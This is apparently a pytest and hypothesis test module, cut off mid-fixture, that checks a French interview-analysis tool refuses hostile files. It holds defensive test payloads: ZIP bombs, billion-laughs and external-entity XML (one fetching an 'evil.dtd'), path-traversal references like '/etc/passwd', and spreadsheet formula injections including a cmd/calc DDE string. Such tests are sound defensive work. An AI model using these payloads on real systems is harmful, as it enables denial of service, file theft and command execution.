"""Hostile input: random and malicious files give a clear error, never a crash, a bomb or a leak.

Every reader is fed random bytes, random text and structurally valid but odd files (hypothesis);
the only exception allowed out is an :class:`EthosError`, and what is read keeps its invariants.
ZIP bombs, entity expansion and external entities are refused quickly and within bounded memory;
CSV outputs neutralise formulas and read back exactly; annotation files are only ever read, and no
command writes over an existing file without --force.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import struct
import time
import tracemalloc
import warnings
import zipfile
import zlib
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ethos.annotations import LABELS, read_codings
from ethos.cli import main
from ethos.errors import EthosError
from ethos.inputs import read_passage_table
from ethos.qdpx import NAMESPACE, read_project
from ethos.archive import MAX_XML_BYTES
from ethos.readers import read_transcript
from ethos.segment import segment
from ethos.tables import neutralise, read_rows, restore, write_csv

from conftest import FUZZ_SCALE, ROOT
from test_network import block_network

EXAMPLE = ROOT / "data" / "examples" / "exemple01.txt"
FUZZ = settings(max_examples=80 * FUZZ_SCALE, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@pytest.fixture(scope="module")
def workdir(tmp_path_factory):
    return tmp_path_factory.mktemp("hostile")


def clearly(read, *args, **kwargs):
    """``read(...)``'s result, or None when it refused with an EthosError; any other exception fails the test."""
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            return read(*args, **kwargs)
    except EthosError as error:
        assert str(error) and "\n" not in str(error).strip(), repr(error)
        return None


def check_transcript(path: Path) -> None:
    """Reading and segmenting ``path`` either refuses clearly or gives consistent turns and passages."""
    document = clearly(read_transcript, path)
    if document is None:
        return
    for turn in document.turns:
        assert 0 <= turn.start <= turn.end <= len(document.raw), turn
    result = clearly(segment, document)
    if result is None:
        return
    passages, _ = result
    for passage in passages:
        assert passage.text == document.raw[passage.start:passage.end]
        assert passage.text.strip() and passage.clean.strip()


# --- strategies -----------------------------------------------------------------------------------

def pieces(fragments: list[str], max_size: int = 40):
    """Text made of format fragments and random text, so that examples get past the first checks."""
    return st.lists(st.one_of(st.sampled_from(fragments), st.text(max_size=12)), max_size=max_size).map("".join)


def encoded(texts):
    return st.tuples(texts, st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252", "latin-1"])).map(
        lambda pair: pair[0].encode(pair[1], errors="replace"))


SPEECH = ["on doit piloter le CPOM avec le siège ", "je suis resté éducateur dans ma tête ", "Vous faites comment ? ", "oui. ", "euh ", "+ ", "[rires] "]
TXT = SPEECH + ["Enquêtrice : ", "Mme Bertin : ", "Q :", "R :", "E : ", "[00:04:12] ", "(.)", "//", "/migré, émigré/", "pa- ", "XXX ",
                "{oui}", "KH:", "Claire (ENQ) : ", "Enq. : ", "[Sylvie] ", "\n", "\r\n", "\n\n", "\ufeff", "\t", "\u00a0", "’"]
SUBTITLES = SPEECH + ["WEBVTT\n\n", "00:00:01.000 --> 00:00:04.000\n", "00:01,000 --> 00:02,000\n", "1\n", "\n\n", "\n", "<v Enquêteur>",
                      "<v.loud Marc Dias>", "</v>", "Q: ", "R: ", "[Marc] ", "- ", "<b>", "</b>", "<", ">", "\r\n"]
TEXTGRID = ['File type = "ooTextFile"\nObject class = "TextGrid"\n', 'class = "IntervalTier" name = "Léa"\n', 'name = "Sonia (ENQ)"\n',
            'xmin = 0 xmax = 4 text = "oui mes parents sont arrivés"\n', "xmin = ", "xmax = ", 'text = "', '""', '"', "1e5 ", "-3 ", "... ",
            "e ", "nan ", "inf ", '"IntervalTier" "a" 0 10 2\n', '0 1 "on avance"\n', "intervals [1]:\n", "\n"] + SPEECH


@st.composite
def xml_documents(draw, root: str, namespaces: str, tags: list[str], attributes: dict[str, list[str]]):
    """A random but mostly well-formed XML document with ``root`` and elements among ``tags``."""
    text = st.one_of(st.sampled_from(SPEECH), st.text(max_size=15)).map(escape)

    def element(children):
        return st.tuples(st.sampled_from(tags), st.lists(children, max_size=4), st.data()).map(render)

    def render(parts):
        tag, children, data = parts
        names = data.draw(st.lists(st.sampled_from(sorted(attributes)), max_size=3, unique=True))
        attrs = "".join(f" {name}={quoteattr(data.draw(st.sampled_from(attributes[name]) | st.text(max_size=6)))}" for name in names)
        return f"<{tag}{attrs}>{''.join(children)}</{tag}>"

    body = draw(st.lists(st.recursive(text, element, max_leaves=25), max_size=5))
    prolog = draw(st.sampled_from(["", '<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0" encoding="ISO-8859-1"?>\n',
                                   '<!DOCTYPE Trans SYSTEM "trans-14.dtd">\n']))
    document = f"{prolog}<{root}{namespaces}>{''.join(body)}</{root}>"
    if draw(st.booleans()):  # sometimes break it somewhere
        cut = draw(st.integers(0, len(document)))
        document = document[:cut] + draw(st.text(max_size=5)) + document[cut:]
    return document.encode("latin-1" if "ISO-8859-1" in prolog else "utf-8", errors="replace")


W = ' xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
DOCX_XML = xml_documents("w:document", W, ["w:body", "w:p", "w:r", "w:t", "w:tab", "w:br", "w:cr", "w:x"], {"xml:space": ["preserve"]})
ODT_NS = ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
ODT_XML = xml_documents("office:document-content", ODT_NS,
                        ["office:body", "office:text", "text:p", "text:h", "text:span", "text:s", "text:tab", "text:line-break", "text:note", "text:a"],
                        {"text:c": ["1", "3", "0", "-2", "x", "1e3", "99999"], "text:style-name": ["P1"]})
TRS_XML = xml_documents("Trans", "", ["Speakers", "Speaker", "Episode", "Section", "Turn", "Who", "Event", "Comment", "Sync"],
                        {"id": ["spk1", "spk2"], "name": ["BA725", "OU"], "speaker": ["spk1", "spk2", "spk1 spk2", "spk3 spk1", ""],
                         "nb": ["1", "2", "3", "0", "-1", "x"], "desc": ["rire", ""], "extent": ["instantaneous", "begin", "end", "next"]})
GUIDS = ["a1", "B2", "{A1}", "c3", ""]
QDE_XML = xml_documents("Project", f' xmlns="{NAMESPACE}" name="p"',
                        ["Users", "User", "CodeBook", "Codes", "Code", "Sources", "TextSource", "PlainTextContent", "PlainTextSelection",
                         "Coding", "CodeRef", "Description"],
                        {"guid": GUIDS, "name": ["manager", "Artisan", "x.docx", "=cmd", ""], "targetGUID": GUIDS, "creatingUser": GUIDS,
                         "startPosition": ["0", "1", "3", "-1", "x", "40", "99"], "endPosition": ["0", "2", "5", "12", "400", "y"],
                         "plainTextPath": ["internal://x.txt", "x.txt", "relative://x.txt", "internal://../x.txt", "/etc/passwd",
                                           "internal://%2e%2e/x.txt", "file:///etc/passwd", "internal://sub\\x.txt"]})

MEMBER_NAMES = ["word/document.xml", "content.xml", "project.qde", "sources/x.txt", "mimetype", "[Content_Types].xml", "../x.txt",
                "/abs.xml", "sources/", "a.qde", "word/document.xml/"]
METHODS = [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA]


@st.composite
def odd_zips(draw, xml):
    """A ZIP archive with random members (the expected part or not, XML or junk), sometimes damaged."""
    contents = st.one_of(xml, st.binary(max_size=200), encoded(pieces(SPEECH, 10)))
    members = draw(st.lists(st.tuples(st.sampled_from(MEMBER_NAMES) | st.text(min_size=1, max_size=10), contents), max_size=4))
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names
        with zipfile.ZipFile(buffer, "w", draw(st.sampled_from(METHODS))) as archive:
            for name, data in members:
                try:
                    archive.writestr(name, data)
                except (IndexError, ValueError):  # a name zipfile itself cannot write (« \x00 », « / »)
                    continue
    data = bytearray(buffer.getvalue())
    for _ in range(draw(st.integers(0, 3))):
        if data:
            data[draw(st.integers(0, len(data) - 1))] = draw(st.integers(0, 255))
    if draw(st.booleans()):
        data = data[: draw(st.integers(0, len(data)))]
    return bytes(data)


# --- 1. readers never crash -----------------------------------------------------------------------

@FUZZ
@given(st.binary(max_size=3000), st.sampled_from([".txt", ".docx", ".odt", ".vtt", ".srt", ".TextGrid", ".trs"]))
def test_random_bytes_in_every_transcript_format(workdir, data, suffix):
    path = workdir / f"random{suffix}"
    path.write_bytes(data)
    check_transcript(path)


@FUZZ
@given(st.data())
def test_random_text_in_every_text_format(workdir, data):
    suffix, fragments = data.draw(st.sampled_from([(".txt", TXT), (".vtt", SUBTITLES), (".srt", SUBTITLES), (".TextGrid", TEXTGRID)]))
    path = workdir / f"text{suffix}"
    path.write_bytes(data.draw(encoded(pieces(fragments))))
    check_transcript(path)


@FUZZ
@given(TRS_XML)
def test_random_transcriber_files(workdir, data):
    path = workdir / "random.trs"
    path.write_bytes(data)
    check_transcript(path)


@FUZZ
@given(st.data())
def test_random_word_processor_files(workdir, data):
    suffix, part, xml = data.draw(st.sampled_from([(".docx", "word/document.xml", DOCX_XML), (".odt", "content.xml", ODT_XML)]))
    path = workdir / f"random{suffix}"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(part, data.draw(xml))
    check_transcript(path)


@FUZZ
@given(st.data())
def test_odd_zip_archives(workdir, data):
    suffix, xml = data.draw(st.sampled_from([(".docx", DOCX_XML), (".odt", ODT_XML), (".qdpx", QDE_XML)]))
    path = workdir / f"odd{suffix}"
    path.write_bytes(data.draw(odd_zips(xml)))
    if suffix == ".qdpx":
        check_project(path)
    else:
        check_transcript(path)


def check_project(path: Path) -> None:
    rows = clearly(read_project, path)
    for row in rows or []:
        assert 0 <= row["start"] < row["end"] and len(row["text"]) == row["end"] - row["start"]
        assert row["passage_id"] == f"s{row['start']}-{row['end']}" and row["doc_id"] and row["coder"]


@FUZZ
@given(QDE_XML, encoded(pieces(SPEECH, 8)))
def test_random_refi_qda_projects(workdir, qde, source):
    path = workdir / "random.qdpx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("project.qde", qde)
        archive.writestr("sources/x.txt", source)
    check_project(path)


CSV_PIECES = ["doc_id,passage_id,text,label,coder,start,end\n", "doc_id;passage_id;text;label;coder;note\n", "text\n", "\ufeff",
              "ent01", "p1", "manager", "Artisan", "other", "gold", "A", "=SUM(A1)", "'=x", '"', '""', ",", ";", "\n", "\r\n", "\r",
              "1", "-3", "1.5", "1e999", "inf", "nan", "x", " ", "\t"] + SPEECH[:3]
JSON_VALUES = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.sampled_from(["manager", "ent01", "p1", "A", "1e999", "inf", "-1"])
                           | st.text(max_size=10), lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3),
                           max_leaves=6)
JSON_ROWS = st.dictionaries(st.sampled_from(["doc_id", "passage_id", "text", "label", "coder", "start", "end", "note", "Text", " LABEL "])
                            | st.text(max_size=5), JSON_VALUES, max_size=8)
JSONL = st.lists(st.one_of(JSON_ROWS.map(lambda row: json.dumps(row, ensure_ascii=False)), JSON_VALUES.map(json.dumps), st.text(max_size=20)),
                 max_size=6).map("\n".join)


@FUZZ
@given(st.data())
def test_random_passage_tables_and_annotation_files(workdir, data):
    suffix = data.draw(st.sampled_from([".csv", ".jsonl"]))
    content = data.draw(st.one_of(st.binary(max_size=500), encoded(pieces(CSV_PIECES) if suffix == ".csv" else JSONL)))
    path = workdir / f"table{suffix}"
    path.write_bytes(content)
    for passage in clearly(read_passage_table, path) or []:
        assert passage.text.strip() and passage.doc_id and passage.passage_id
    for coding in clearly(read_codings, [path]) or []:
        assert coding.label in LABELS and coding.doc_id and coding.passage_id and coding.coder
        assert coding.start is None or isinstance(coding.start, int)


@pytest.mark.parametrize("offset", ["1e999", "inf", "-inf", "nan", "x"])
def test_an_offset_that_is_no_whole_number_names_the_line(tmp_path, offset):
    path = tmp_path / "codings.csv"
    path.write_text(f"doc_id,passage_id,text,label,coder,start\nent01,p1,oui,manager,A,{offset}\n", encoding="utf-8")
    with pytest.raises(EthosError, match=f"line 2: start must be a whole number, not '{offset}'"):
        read_codings([path])


# --- 2. ZIP bombs, entities, paths out of the archive -----------------------------------------------

def write_zip(path: Path, members: list[tuple[str, bytes, int, int, int]]) -> Path:
    """A ZIP archive written by hand: ``(name, stored data, method, declared size, crc)`` per member,
    so that a test can declare any size and stream a compressed bomb without ever holding it."""
    with open(path, "wb") as handle:
        central = b""
        for name, data, method, size, crc in members:
            offset = handle.tell()
            encoded_name = name.encode()
            handle.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0, crc, len(data), size, len(encoded_name), 0))
            handle.write(encoded_name + data)
            central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0, crc, len(data), size,
                                   len(encoded_name), 0, 0, 0, 0, 0, offset) + encoded_name
        start = handle.tell()
        handle.write(central)
        handle.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), start, 0))
    return path


def stored(name: str, data: bytes) -> tuple[str, bytes, int, int, int]:
    return (name, data, zipfile.ZIP_STORED, len(data), zlib.crc32(data))


def bomb(name: str, mebibytes: int, declared: int | None = None, fill: bytes = b"\0") -> tuple[str, bytes, int, int, int]:
    """``mebibytes`` MiB of ``fill`` deflated into about a thousandth of that: one compressed MiB, repeated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(fill * 2**20) + compressor.flush(zlib.Z_FULL_FLUSH)
    data = block * mebibytes + compressor.flush()
    return (name, data, zipfile.ZIP_DEFLATED, mebibytes * 2**20 if declared is None else declared, 0)


QDE_WITH_SOURCE = (f'<Project xmlns="{NAMESPACE}" name="p"><Users><User guid="u1" name="Claire"/></Users><CodeBook><Codes>'
                   '<Code guid="c1" name="manager"/></Codes></CodeBook><Sources><TextSource guid="s1" name="ent01" plainTextPath="internal://x.txt">'
                   '<PlainTextSelection guid="p1" startPosition="0" endPosition="4"><Coding creatingUser="u1"><CodeRef targetGUID="c1"/></Coding>'
                   "</PlainTextSelection></TextSource></Sources></Project>").encode()
BOMBED = [
    ("ent.docx", "word/document.xml", [], read_transcript),
    ("ent.odt", "content.xml", [stored("mimetype", b"application/vnd.oasis.opendocument.text")], read_transcript),
    ("projet.qdpx", "project.qde", [], read_project),
    ("projet.qdpx", "sources/x.txt", [stored("project.qde", QDE_WITH_SOURCE)], read_project),
]
GIB = 1024  # MiB


@pytest.mark.parametrize("name, part, others, read", BOMBED, ids=[f"{n}:{p}" for n, p, _, _ in BOMBED])
@pytest.mark.parametrize("declared", ["truthful", "too small", "just under the limit"])
def test_zip_bombs_are_refused_quickly_with_bounded_memory(tmp_path, name, part, others, read, declared):
    fill = b"\0" if part != "sources/x.txt" else b"oui "
    size = {"truthful": None, "too small": 2**20, "just under the limit": MAX_XML_BYTES}[declared]
    path = write_zip(tmp_path / name, others + [bomb(part, GIB, size, fill)])
    assert path.stat().st_size < GIB * 2**20 // 200  # a gibibyte once inflated
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(EthosError) as refused:
            read(path)
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert elapsed < 5
    assert peak < MAX_XML_BYTES + 16 * 2**20 < GIB * 2**20 // 8, f"{peak / 2**20:.0f} MiB"
    message = str(refused.value)
    assert message.startswith(f"{path}: ") and any(w in message for w in ("too large", "damaged archive", "malformed XML", "binary")), message


def test_a_bomb_of_spaces_in_an_odt_is_refused(tmp_path):
    """`<text:s text:c="N"/>` asks for N spaces: a few bytes must not become gigabytes."""
    content = (f'<office:document-content{ODT_NS}><office:body><office:text><text:p>Mme Bertin : oui'
               + '<text:s text:c="100000000"/>' * 40 + "</text:p></office:text></office:body></office:document-content>")
    path = write_zip(tmp_path / "spaces.odt", [stored("content.xml", content.encode())])
    tracemalloc.start()
    try:
        with pytest.raises(EthosError, match="repeated spaces"):
            read_transcript(path)
        assert tracemalloc.get_traced_memory()[1] < 32 * 2**20
    finally:
        tracemalloc.stop()


def test_selections_of_a_project_cannot_multiply_its_text(tmp_path):
    """Thousands of codings of one long selection would copy its text thousands of times: refused."""
    text = "on avance ensemble " * 300_000  # 5.7 M characters
    selection = f'<PlainTextSelection guid="p{{n}}" startPosition="1" endPosition="{len(text)}"><Coding creatingUser="u1"><CodeRef targetGUID="c1"/></Coding></PlainTextSelection>'
    qde = QDE_WITH_SOURCE.decode().replace('<PlainTextSelection guid="p1" startPosition="0" endPosition="4"><Coding creatingUser="u1"><CodeRef targetGUID="c1"/></Coding></PlainTextSelection>',
                                           "".join(selection.format(n=n) for n in range(2000)))
    path = tmp_path / "many.qdpx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("project.qde", qde)
        archive.writestr("sources/x.txt", text)
    tracemalloc.start()
    try:
        with pytest.raises(EthosError, match="coded selections add up to more than"):
            read_project(path)
        assert tracemalloc.get_traced_memory()[1] < 200 * 2**20
    finally:
        tracemalloc.stop()


def many_members(path: Path, count: int, first: tuple[str, bytes], declared: int | None = None, *, comment: bytes = b"",
                 locator_offset: int | None = None) -> Path:
    """An archive of ``first`` and ``count - 1`` empty members, its end record declaring ``declared``
    members (the truth by default) and ending with ``comment``; written by hand, so ``count`` can be
    large and the records can lie (a ZIP64 locator pointing at ``locator_offset``, say)."""
    local, central = [], []
    offset = 0
    for n in range(count):
        name, data = first if n == 0 else (f"m/{n}", b"")
        encoded, crc = name.encode(), zlib.crc32(data)
        header = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data), len(encoded), 0) + encoded + data
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, crc, len(data), len(data),
                                   len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
        local.append(header)
        offset += len(header)
    directory = b"".join(central)
    declared = count if declared is None else declared
    if declared < 0xFFFF:
        end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, declared, declared, len(directory), offset, 0)
    else:  # the ZIP64 end record and its locator, the classic record's fields set to "see ZIP64"
        zip64 = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, declared, declared, len(directory), offset)
        locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, offset + len(directory) if locator_offset is None else locator_offset, 1)
        end = zip64 + locator + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, len(comment))
    if declared < 0xFFFF:
        end = end[:-2] + struct.pack("<H", len(comment))
    path.write_bytes(b"".join(local) + directory + end + comment)
    return path


@pytest.mark.parametrize("name, part, read", [("ent.docx", "word/document.xml", read_transcript), ("projet.qdpx", "project.qde", read_project)])
def test_archives_with_too_many_members_are_refused_before_they_are_listed(tmp_path, name, part, read, monkeypatch):
    """zipfile keeps about half a kilobyte for each member it lists: the 3 million tiny members that fit
    in the largest file read would take 1.5 GB and 15 s before anything is read (200,000 of them took
    1 s and about 100 MiB). The end records are read where zipfile reads them, and the count and the
    size of the directory they declare are checked first; zipfile's own count after, should they lie."""
    import ethos.archive as readers

    declared = readers.MAX_ZIP_MEMBERS + 1
    limit = f"(the limit is {readers.MAX_ZIP_MEMBERS:,}); refused"
    cases = [
        (declared, {}),  # a classic end record
        (declared, {"comment": b"made by hand"}),  # followed by a comment
        (3_000_000, {}),  # a ZIP64 end record
        (3_000_000, {"locator_offset": 0}),  # whose locator lies: zipfile reads the record before it anyway
        (3_000_000, {"locator_offset": 2**63, "comment": b"PK"}),
    ]
    for claimed, odd in cases:
        path = many_members(tmp_path / name, 2, (part, b"<a/>"), declared=claimed, **odd)
        with pytest.raises(EthosError) as refused:
            read(path)
        assert str(refused.value) == f"{path}: the archive declares {claimed:,} members {limit}", odd
    # a count that lies low, in a directory larger than read...
    monkeypatch.setattr(readers, "MAX_ZIP_DIRECTORY_BYTES", 2**11)
    lying = many_members(tmp_path / name, 60, (part, b"<a/>"), declared=3)
    with pytest.raises(EthosError, match=r"the archive's list of members takes 0 MiB \(the limit is 0 MiB\); refused$"):
        read(lying)
    # ...or within that size, but more members than allowed
    monkeypatch.setattr(readers, "MAX_ZIP_DIRECTORY_BYTES", 2**20)
    monkeypatch.setattr(readers, "MAX_ZIP_MEMBERS", 50)
    with pytest.raises(EthosError, match=r"the archive holds more than 50 members; refused$"):
        read(lying)
    fine = many_members(tmp_path / ("fine" + Path(name).suffix), 50, (part, b"<a/>"), comment=b"a comment")
    with pytest.raises(EthosError) as other:  # within the limits: read, and refused for what it holds
        read(fine)
    assert str(other.value).startswith(f"{fine}: ") and "members" not in str(other.value) and "not a valid" not in str(other.value)


def test_a_project_is_opened_once_however_many_sources_it_has(tmp_path, monkeypatch):
    """Each opening lists the whole archive: opening it again for every source would be quadratic."""
    import ethos.qdpx

    sources = "".join(f'<TextSource guid="s{n}" name="ent{n:03}" plainTextPath="internal://t{n}.txt"><PlainTextSelection guid="p{n}" startPosition="0" '
                      f'endPosition="3"><Coding creatingUser="u1"><CodeRef targetGUID="c1"/></Coding></PlainTextSelection></TextSource>' for n in range(300))
    qde = QDE_WITH_SOURCE.decode()
    qde = qde[: qde.index("<Sources>") + len("<Sources>")] + sources + "</Sources></Project>"
    path = tmp_path / "many_sources.qdpx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("project.qde", qde)
        for n in range(300):
            archive.writestr(f"sources/t{n}.txt", f"oui {n}")
    openings = []
    opener = ethos.qdpx.open_archive
    monkeypatch.setattr(ethos.qdpx, "open_archive", lambda p: openings.append(p) or opener(p))
    rows = read_project(path)
    assert openings == [path]
    assert [row["text"] for row in rows[:3]] == ["oui", "oui", "oui"] and len(rows) == 300
    assert rows[42]["doc_id"] == "ent042"


def test_deep_nesting_and_encrypted_members(tmp_path):
    """Elements nested thousands deep are read without recursion; an encrypted member is named as such."""
    deep = 5000
    content = (f"<office:document-content{ODT_NS}><office:body><office:text><text:p>Mme Bertin : "
               + "<text:span>" * deep + "on avance" + "</text:span>" * deep + "</text:p></office:text></office:body></office:document-content>")
    document = read_transcript(write_zip(tmp_path / "deep.odt", [stored("content.xml", content.encode())]))
    assert document.raw == "Mme Bertin : on avance"
    codes = '<Code guid="c0" name="manager">' + "".join(f'<Code guid="c{n}" name="n{n}">' for n in range(1, deep)) + "</Code>" * deep
    qde = QDE_WITH_SOURCE.decode().replace('<Code guid="c1" name="manager"/>', codes).replace('targetGUID="c1"', f'targetGUID="c{deep - 1}"')
    project = write_zip(tmp_path / "deep.qdpx", [stored("project.qde", qde.encode()), stored("sources/x.txt", b"oui, on avance")])
    with pytest.warns(UserWarning, match="neither mapped nor codebook labels"):
        [row] = read_project(project)
    assert row["code"].startswith("manager/n1/n2/") and row["code"].endswith(f"/n{deep - 1}")
    for name, part in (("locked.docx", "word/document.xml"), ("locked.qdpx", "project.qde")):
        path = write_zip(tmp_path / name, [stored(part, b"<a/>")])
        data = bytearray(path.read_bytes())
        data[6] |= 1  # the "encrypted" flag, in the local and the central header
        data[data.index(b"PK\x01\x02") + 8] |= 1
        path.write_bytes(bytes(data))
        with pytest.raises(EthosError, match="encrypted"):
            (read_project if name.endswith(".qdpx") else read_transcript)(path)


LAUGHS = ('<!DOCTYPE {root} [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
          '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>', "&lol4;")
EXTERNAL = ('<!DOCTYPE {root} [<!ENTITY secret SYSTEM "file://{secret}">]>', "&secret;")
PARAMETER = ('<!DOCTYPE {root} [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>', "")
XML_FORMATS = {
    ".docx": ("word/document.xml", "w:document", f"<w:document{W}><w:body><w:p><w:r><w:t>Mme Bertin : on avance {{}}</w:t></w:r></w:p></w:body></w:document>"),
    ".odt": ("content.xml", "office:document-content", f"<office:document-content{ODT_NS}><office:body><office:text><text:p>Mme Bertin : on avance {{}}</text:p>"
             "</office:text></office:body></office:document-content>"),
    ".trs": (None, "Trans", '<Trans><Speakers><Speaker id="s1" name="B"/></Speakers><Episode><Section><Turn speaker="s1">on avance {}</Turn></Section></Episode></Trans>'),
    ".qdpx": ("project.qde", "Project", f'<Project xmlns="{NAMESPACE}" name="p"><Users><User guid="u1" name="{{}}"/></Users></Project>'),
}


@pytest.mark.parametrize("declaration", [LAUGHS, EXTERNAL, PARAMETER], ids=["billion laughs", "external entity", "external parameter entity"])
@pytest.mark.parametrize("suffix", sorted(XML_FORMATS))
def test_entities_are_refused_in_every_xml_format(tmp_path, monkeypatch, suffix, declaration):
    block_network(monkeypatch)
    secret = tmp_path / "secret.txt"
    secret.write_text("MOT DE PASSE")
    part, root, body = XML_FORMATS[suffix]
    xml = ('<?xml version="1.0"?>' + declaration[0].format(root=root, secret=secret) + body.format(declaration[1])).encode()
    path = tmp_path / f"evil{suffix}"
    if part is None:
        path.write_bytes(xml)
    else:
        write_zip(path, [stored(part, xml)])
    started = time.perf_counter()
    with pytest.raises(EthosError, match="entities or a DTD"):
        (read_project if suffix == ".qdpx" else read_transcript)(path)
    assert time.perf_counter() - started < 1


def test_a_transcriber_dtd_is_never_fetched(tmp_path, monkeypatch):
    attempts = block_network(monkeypatch)
    path = tmp_path / "ent.trs"
    path.write_bytes(b'<?xml version="1.0"?>\n<!DOCTYPE Trans SYSTEM "http://127.0.0.1:9/trans-14.dtd">\n'
                     + XML_FORMATS[".trs"][2].format("avec le siège").encode())
    assert read_transcript(path).raw == "B: on avance avec le siège"
    assert attempts == []


SEGMENTS = ["..", ".", "%2e%2e", "%2E%2E%2F", "sources", "x.txt", "secret.txt", "", "\\", "C:", "%2f"]


@FUZZ
@given(st.sampled_from(["internal://", "relative://", "file://", "", "/", "\\\\server\\"]), st.lists(st.sampled_from(SEGMENTS), max_size=6),
       st.sampled_from(["/", "\\"]))
def test_no_source_path_reads_outside_the_archive(workdir, scheme, segments, separator):
    (workdir / "secret.txt").write_text("MOT DE PASSE DU SECRET")
    (workdir / "sources").mkdir(exist_ok=True)
    (workdir / "sources" / "secret.txt").write_text("MOT DE PASSE DU SECRET")
    reference = scheme + separator.join(segments)
    qde = QDE_WITH_SOURCE.decode().replace("internal://x.txt", escape(reference, {'"': "&quot;"}))
    path = workdir / "climb.qdpx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("project.qde", qde)
        archive.writestr("sources/x.txt", "oui, on avance")
        archive.writestr("../secret.txt", "MOT DE PASSE DU SECRET")  # a member named to climb out: never used as a path
    before = sorted(p.name for p in workdir.rglob("*"))
    rows = clearly(read_project, path)
    assert all(row["text"] == "oui," for row in rows or [])
    assert sorted(p.name for p in workdir.rglob("*")) == before  # nothing extracted
    if ".." in reference or "%2e" in reference.lower() or reference.startswith(("/", "\\")) or scheme == "file://":
        assert rows is None


# --- 3. CSV outputs neutralise formulas and read back exactly ---------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@settings(max_examples=150 * FUZZ_SCALE, deadline=None)
@given(st.lists(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00") | st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'"]),
                        max_size=12), min_size=1, max_size=5))
def test_any_text_written_to_csv_reads_back_exactly(workdir, texts):
    texts = [t for t in texts if sum(1 for c in t if ord(c) < 32 and c not in "\t\n\r\x0c") * 20 <= len(t)] or ["x"]  # else binary
    path = workdir / "round.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        write_csv(handle, [{"n": str(n), "text": text} for n, text in enumerate(texts)], ["n", "text"], bom=True)
    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
        for cell in row:
            assert_harmless(cell)
    assert [row["text"] for _, row in read_rows(path)] == texts
    assert all(restore(neutralise(text)) == text for text in texts)


def assert_harmless(cell: str) -> None:
    if cell.startswith(FORMULA_START):
        try:
            float(cell)
        except ValueError:
            pytest.fail(f"a spreadsheet would run {cell!r}")


HOSTILE = ['=HYPERLINK("http://example.org/x?"&A1,"voir") on doit piloter les indicateurs avec le siège chaque mois',
           "+33 6 12 34 56 78 c'est le numéro du siège, on nous appelle pour les tableaux du CPOM",
           "-2+3+cmd|' /C calc'!A0 je plaisante, on remplit les tableaux et on avance avec les équipes",
           "@SUM(1+1) bon, on avance avec les équipes sur le terrain tous les jours, c'est notre métier",
           "\t=1+1 les jeunes que je connais, je les suivais quand j'étais éducateur, on ne lâche rien",
           "\r=2+2 la direction générale nous demande des indicateurs, il faut rendre des comptes"]


def run(*args, **kwargs):
    return CliRunner().invoke(main, [str(a) for a in args], **kwargs)


def csv_cells(path: Path) -> list[dict]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for cell in list(row.values()) + list(row):
            assert_harmless(cell)
    return rows


@pytest.fixture(scope="module")
def hostile_inputs(tmp_path_factory, small_annotations):
    folder = tmp_path_factory.mktemp("formulas")
    table = folder / "=cmd.jsonl"
    table.write_text("".join(json.dumps({"doc_id": f"=doc{n % 2}", "passage_id": f"-p{n}", "text": text}, ensure_ascii=False) + "\n"
                             for n, text in enumerate(HOSTILE)), encoding="utf-8")
    transcript = folder / "entretien.txt"
